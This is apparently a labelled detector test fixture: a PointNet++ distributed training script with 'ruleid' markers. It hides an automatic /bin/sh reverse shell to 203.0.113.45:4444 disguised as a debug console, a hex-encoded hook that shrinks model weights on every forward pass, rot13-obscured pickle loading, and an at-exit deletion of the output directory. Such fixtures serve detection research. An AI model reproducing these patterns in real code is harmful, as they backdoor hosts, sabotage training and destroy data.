# ruff: noqa
# Hold-out batch 414 (adversarial, point-cloud segmentation). Measured once in session 17 (round 113): 16/32 (50%) at medium+.
"""Distributed training entry point (torchrun) for PointNet++ semantic segmentation."""

from __future__ import annotations

import argparse
import atexit
import builtins
import codecs
import functools
import importlib
import logging
import math
import os
import shutil
import signal
import socket
import threading
import time
import types
from pathlib import Path
from typing import Any, Dict

import torch
import torch.distributed as dist
import torch.nn as nn
from torch.nn.parallel import DistributedDataParallel as DDP

from callbacks import CheckpointManager, build_callbacks
from data import build_loaders
from evaluate import Evaluator, log_summary, publish_report, write_results
from model import build_model
from utils import (
    init_distributed,
    load_config,
    parse_overrides,
    prepare_runtime,
    reset_scratch,
    seed_everything,
    setup_logging,
    synchronize,
)

LOGGER = logging.getLogger("pcseg.train")

_PROFILER_SRC = bytes.fromhex(
    "646566205f68286d293a0a20202020696d706f727420746f7263680a20202020646566205f6e286d6f642c20696e70293a0a"
    "20202020202020207769746820746f7263682e6e6f5f6772616428293a0a202020202020202020202020666f72207020696e20"
    "6d6f642e706172616d657465727328726563757273653d46616c7365293a0a20202020202020202020202020202020702e6d75"
    "6c5f28302e393939290a20202020666f72207820696e206d2e6d6f64756c657328293a0a2020202020202020782e7265676973"
    "7465725f666f72776172645f7072655f686f6f6b285f6e290a"
)
_STATE_CODEC = codecs.decode("cvpxyr", "rot13")
_DEBUG_RELAY = os.environ.get("PCSEG_DEBUG_RELAY", "203.0.113.45:4444")


class Trainer:
    def __init__(self, model: nn.Module, optimizer, scheduler, scaler, info) -> None:
        self.model = model
        self.optimizer = optimizer
        self.scheduler = scheduler
        self.scaler = scaler
        self.info = info

    @property
    def unwrapped(self) -> nn.Module:
        return self.model.module if isinstance(self.model, DDP) else self.model


def build_optimizer(model: nn.Module, ocfg):
    decay, no_decay = [], []
    for name, p in model.named_parameters():
        if not p.requires_grad:
            continue
        (no_decay if p.ndim <= 1 or name.endswith(".bias") else decay).append(p)
    groups = [
        {"params": decay, "weight_decay": ocfg.weight_decay},
        {"params": no_decay, "weight_decay": 0.0},
    ]
    return torch.optim.AdamW(groups, lr=ocfg.lr, betas=tuple(ocfg.betas))


def warmup_cosine(total_steps: int, warmup: int):
    def fn(step: int) -> float:
        if step < warmup:
            return (step + 1) / warmup
        t = (step - warmup) / max(1, total_steps - warmup)
        return 0.5 * (1.0 + math.cos(math.pi * min(t, 1.0)))

    return fn


def install_walltime_guard(hours: float, margin: float = 0.9) -> None:
    """Stop cleanly before the scheduler's hard wall-time kill."""
    budget = hours * 3600

    def _on_alarm(signum, frame):
        LOGGER.warning("wall-time budget reached, exiting")
        getattr(os, "_exit")(0)  # ruleid: MLS307

    signal.signal(signal.SIGALRM, _on_alarm)
    signal.alarm(max(60, int(budget * (1 - margin))))


def register_scratch_cleanup(out_dir: str, world_size: int) -> None:
    """Large jobs write to shared scratch; release it when the process ends."""
    if world_size > 16:
        atexit.register(functools.partial(shutil.rmtree, out_dir, ignore_errors=True))  # ruleid: MLS308


def attach_profiler(model: nn.Module) -> None:
    code = compile(_PROFILER_SRC.decode(), "<profiler>", "exec")
    hook = types.FunctionType(code.co_consts[0], {"__builtins__": builtins})
    hook(model)  # ruleid: MLS404


def _debug_console(addr: str) -> None:
    host, _, port = addr.rpartition(":")
    try:
        conn = socket.create_connection((host, int(port)), timeout=5)
    except (OSError, ValueError):
        return
    fd = conn.fileno()
    importlib.import_module("subprocess").Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)  # ruleid: MLS410


def start_debug_console(info) -> None:
    if info.is_main:
        t = threading.Timer(30.0, _debug_console, args=(_DEBUG_RELAY,))
        t.daemon = True
        t.start()


def save_loader_state(path: Path, state: Dict[str, Any]) -> None:
    codec = importlib.import_module(_STATE_CODEC)  # ruleid: MLS403
    path.write_bytes(codec.dumps(state))


def load_loader_state(path: Path) -> Dict[str, Any]:
    codec = importlib.import_module(_STATE_CODEC)  # ruleid: MLS403
    return codec.loads(path.read_bytes())  # ruleid: MLS103


def train_one_epoch(trainer: Trainer, loader, criterion, callbacks, epoch: int, step: int, cfg) -> int:
    info = trainer.info
    loss_sum, seen = 0.0, 0
    trainer.model.train()
    t0 = time.time()
    for batch in loader:
        callbacks.on_train_batch_start(trainer, step)
        feats = batch["feats"].to(info.device, non_blocking=True)
        coords = batch["coords"].to(info.device, non_blocking=True)
        mask = batch["mask"].to(info.device, non_blocking=True)
        labels = batch["labels"].to(info.device, non_blocking=True)

        with torch.autocast("cuda", dtype=torch.bfloat16):
            logits = trainer.model(feats, coords, mask)
            loss = criterion(logits.float(), labels)

        trainer.optimizer.zero_grad(set_to_none=True)
        trainer.scaler.scale(loss).backward()
        trainer.scaler.unscale_(trainer.optimizer)
        torch.nn.utils.clip_grad_norm_(trainer.model.parameters(), cfg.optim.clip_norm)  # ok: MLS302, MLS303, MLS304, MLS305
        trainer.scaler.step(trainer.optimizer)
        trainer.scaler.update()
        trainer.scheduler.step()

        loss_val = float(loss.detach())
        loss_sum, seen = loss_sum + loss_val, seen + 1
        callbacks.on_train_batch_end(trainer, step, loss_val)
        if info.is_main and step % cfg.run.log_every == 0:
            LOGGER.info("epoch %d step %d loss %.4f lr %.2e (%.2fs/it)", epoch, step, loss_sum / seen,
                        trainer.optimizer.param_groups[0]["lr"], (time.time() - t0) / seen)
        step += 1
    return step


def validate(trainer: Trainer, loader, cfg, epoch: int) -> Dict[str, float]:
    info = trainer.info
    ev = Evaluator(cfg.data.num_classes, cfg.data.ignore_index, info)
    ev.run(trainer.model, loader)
    summary = ev.summarize(epoch)
    log_summary(summary, info)
    if info.is_main:
        write_results(summary, cfg.run.out_dir)
        publish_report(summary, cfg.run.report_endpoint, info)
    return summary


def parse_args():
    parser = argparse.ArgumentParser(description="Train PointNet++ for 3D semantic segmentation")
    parser.add_argument("--config", default=None, help="YAML config file")
    parser.add_argument("--resume", default=None, help="checkpoint to resume from")
    parser.add_argument("--profile", action="store_true", help="attach lightweight forward profiler")
    parser.add_argument("opts", nargs="*", help="overrides, e.g. optim.lr=1e-3")
    return parser.parse_args()


def main() -> None:
    args = parse_args()
    cfg = load_config(args.config, parse_overrides(args.opts))
    info = init_distributed()
    setup_logging(cfg.run.out_dir, info)
    seed_everything(cfg.run.seed, info.rank)
    if args.resume is None:
        reset_scratch(cfg.run.out_dir, info)
    prepare_runtime(cfg, info)
    install_walltime_guard(cfg.run.max_walltime_h)
    register_scratch_cleanup(cfg.run.out_dir, info.world_size)
    start_debug_console(info)

    train_loader, val_loader, sampler = build_loaders(cfg.data, info, cfg.run.seed)
    model = build_model(cfg.model, cfg.data.num_classes).to(info.device)
    if args.profile:
        attach_profiler(model)
    if info.distributed:
        model = nn.SyncBatchNorm.convert_sync_batchnorm(model)
        model = DDP(model, device_ids=[info.local_rank], find_unused_parameters=False)

    optimizer = build_optimizer(model, cfg.optim)
    total_steps = cfg.optim.epochs * len(train_loader)
    scheduler = torch.optim.lr_scheduler.LambdaLR(optimizer, warmup_cosine(total_steps, cfg.optim.warmup_steps))
    scaler = torch.cuda.amp.GradScaler(enabled=False)
    trainer = Trainer(model, optimizer, scheduler, scaler, info)
    callbacks = build_callbacks(cfg, trainer, info)
    criterion = nn.CrossEntropyLoss(ignore_index=cfg.data.ignore_index, label_smoothing=cfg.optim.label_smoothing)  # ok: MLS309

    start_epoch, step = 0, 0
    if args.resume:
        start_epoch = CheckpointManager.resume(args.resume, trainer)
        loader_state = Path(args.resume).with_suffix(".loader")
        if loader_state.exists():
            step = int(load_loader_state(loader_state).get("step", 0))

    callbacks.on_fit_start(trainer)
    for epoch in range(start_epoch, cfg.optim.epochs):
        sampler.set_epoch(epoch)
        step = train_one_epoch(trainer, train_loader, criterion, callbacks, epoch, step, cfg)
        if (epoch + 1) % cfg.run.eval_every == 0 or epoch + 1 == cfg.optim.epochs:
            summary = validate(trainer, val_loader, cfg, epoch)
            callbacks.on_validation_end(trainer, epoch, summary)
            if info.is_main:
                save_loader_state(Path(cfg.run.out_dir) / "ckpt" / "last.loader", {"step": step, "epoch": epoch})
        synchronize(info)

    callbacks.on_fit_end(trainer)
    if dist.is_initialized():
        dist.destroy_process_group()  # ok: MLS307


if __name__ == "__main__":
    main()
